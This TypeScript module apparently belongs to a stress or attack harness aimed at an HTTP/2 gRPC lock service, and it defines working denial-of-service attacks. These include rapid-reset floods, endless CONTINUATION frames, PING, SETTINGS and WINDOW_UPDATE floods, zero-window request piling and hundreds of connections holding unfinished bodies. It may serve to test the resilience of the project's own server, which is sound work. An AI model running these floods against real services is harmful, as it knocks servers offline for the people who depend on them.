/** Frames of HTTP/2 that are allowed one by one and cost more than they should in great number. */
import { type Attack, fillSeconds, type Target } from "../attack.ts";
import {
  type Frame,
  flags,
  frameOf,
  greeting,
  grpcFields,
  headerBlock,
  onManyStreams,
} from "../http2-frames.ts";
import { assemble, batch, crowd, openSocket, type Pieces, pour, taken } from "../wire.ts";
import { openSession } from "./http.ts";

/** HEADERS of a whole request without a body. */
function wholeGet(path: string): Frame {
  return {
    type: "headers",
    flags: flags.endHeaders | flags.endStream,
    payload: headerBlock("GET", path),
  };
}

/** HEADERS of a request whose body is to come. */
const openPost: Frame = {
  type: "headers",
  flags: flags.endHeaders,
  payload: headerBlock("POST", "/ldlm.LDLM/TryLock", grpcFields),
};

const cancel: Frame = { type: "reset", payload: Buffer.of(0, 0, 0, 8) };
/** A body longer than it was said to be: the server must reset its stream; RFC 9113, section 8.1.1. */
const malformed: readonly Frame[] = [
  {
    type: "headers",
    flags: flags.endHeaders,
    payload: headerBlock("POST", "/ldlm.LDLM/TryLock", { ...grpcFields, "content-length": "1" }),
  },
  { type: "data", flags: flags.endStream, payload: Buffer.of(0, 0) },
];

interface Flood {
  readonly connections?: number;
  /** The size that each stream's window begins with. */
  readonly window?: number;
  /** Called for each connection. */
  pieces(): Pieces;
  /** Sent before them. */
  readonly first?: Uint8Array;
}

async function floodOver(target: Target, flood: Flood): Promise<void> {
  await crowd(target, flood.connections ?? 8, async () => {
    const socket = await openSocket(target);
    socket.write(greeting(flood.window));
    if (flood.first !== undefined) socket.write(flood.first);
    await pour(target, socket, flood.pieces());
  });
}

function flood(name: string, does: string, wishes: Flood): Attack {
  const { connections = 8 } = wishes;
  return {
    name: `http2-${name}`,
    does: `${does}, on ${connections} connections`,
    run: (target) => floodOver(target, wishes),
  };
}

function same(frame: Frame): () => Pieces {
  const piece = batch(frameOf(frame));
  return () => () => piece;
}

/** A header block that goes on in CONTINUATION frames and has no end; RFC 9113, section 6.10. */
const endless: Flood = {
  first: frameOf({ type: "headers", stream: 1, payload: headerBlock("GET", "/") }),
  pieces: same({ type: "continuation", stream: 1, payload: headerBlock("GET", "/") }),
};

async function leaveUnread(target: Target, path: string): Promise<void> {
  await assemble(target, 9, async () => {
    const socket = await openSocket(target);
    socket.write(greeting(0));
    const pieces = onManyStreams([wholeGet(path)], 100);
    for (let hundred = 0; hundred < 110; hundred += 1) socket.write(pieces());
  });
}

async function leaveBodies(target: Target): Promise<void> {
  const cookie = await openSession(target);
  const [, value = ""] = /Cookie: (\S+)/.exec(cookie) ?? [];
  const block = headerBlock("POST", "/v1/lock", { cookie: value });
  const data: Frame = { type: "data", payload: Buffer.alloc(16_384, " ") };
  await assemble(target, 400, async () => {
    const socket = await openSocket(target);
    socket.write(greeting());
    const begun: Frame = { type: "headers", flags: flags.endHeaders, payload: block };
    // 48 KiB of each stream, within the window that it begins with.
    const pieces = onManyStreams([begun, data, data, data], 20);
    for (let round = 0; round < 4; round += 1) await taken(target, socket, pieces());
  });
}

const openStream = frameOf({ ...openPost, stream: 1 });

export const http2Attacks: readonly Attack[] = [
  {
    name: "http2-window-0",
    seconds: fillSeconds,
    does: "nine connections with a window of 0 and 11,000 requests of /schema each",
    run: (target) => leaveUnread(target, "/api/schema"),
  },
  {
    name: "http2-window-0-metrics",
    seconds: fillSeconds,
    does: "the same with requests of /metrics",
    run: (target) => leaveUnread(target, "/metrics"),
  },
  flood("requests", "GET /healthz on stream after stream", {
    pieces: () => onManyStreams([wholeGet("/healthz")], 200),
  }),
  flood("metrics", "GET /metrics on stream after stream", {
    pieces: () => onManyStreams([wholeGet("/metrics")], 200),
  }),
  flood("rapid-reset", "requests that the client resets at once", {
    pieces: () => onManyStreams([wholeGet("/healthz"), cancel], 200),
  }),
  flood("rapid-reset-calls", "gRPC calls that the client resets at once", {
    pieces: () => onManyStreams([openPost, cancel], 200),
  }),
  flood("made-resets", "requests that the server must reset, because they are malformed", {
    pieces: () => onManyStreams(malformed, 200),
  }),
  flood("pings", "PING frames", { pieces: same({ type: "ping", payload: Buffer.alloc(8) }) }),
  flood("settings", "SETTINGS frames", { pieces: same({ type: "settings" }) }),
  flood("priorities", "PRIORITY frames", {
    pieces: same({ type: "priority", stream: 1, payload: Buffer.of(0, 0, 0, 3, 1) }),
  }),
  flood("window-updates", "WINDOW_UPDATE frames of one byte", {
    pieces: same({ type: "windowUpdate", payload: Buffer.of(0, 0, 0, 1) }),
  }),
  flood("continuations", "CONTINUATION frames without end", endless),
  flood("empty-data", "empty DATA frames", {
    first: openStream,
    pieces: same({ type: "data", stream: 1 }),
  }),
  flood("one-byte-data", "DATA frames of one byte", {
    first: openStream,
    pieces: same({ type: "data", stream: 1, payload: Buffer.of(0) }),
  }),
  {
    name: "http2-unfinished-bodies",
    seconds: fillSeconds,
    does: "400 connections of 80 bodies of 48 KiB each that do not end",
    run: leaveBodies,
  },
];
